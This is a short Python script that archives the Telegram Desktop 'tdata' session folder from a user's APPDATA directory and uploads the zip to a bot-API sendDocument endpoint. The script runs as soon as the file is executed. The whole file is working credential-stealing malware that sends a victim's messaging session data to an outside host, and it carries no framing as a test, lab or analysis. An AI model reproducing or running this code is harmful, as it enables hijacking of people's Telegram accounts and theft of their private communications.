import os
import shutil
import requests

BOT = "https://api.chat.example.invalid/bot1:AA/sendDocument"


def run():
    source = os.path.join(os.getenv("APPDATA"), "Telegram Desktop", "tdata")
    if os.path.exists(source):
        target = shutil.make_archive(os.path.join(os.getenv("TEMP"), "t"), "zip", source)
        with open(target, "rb") as handle:
            requests.post(BOT, data={"chat_id": "1"}, files={"document": handle})


run()
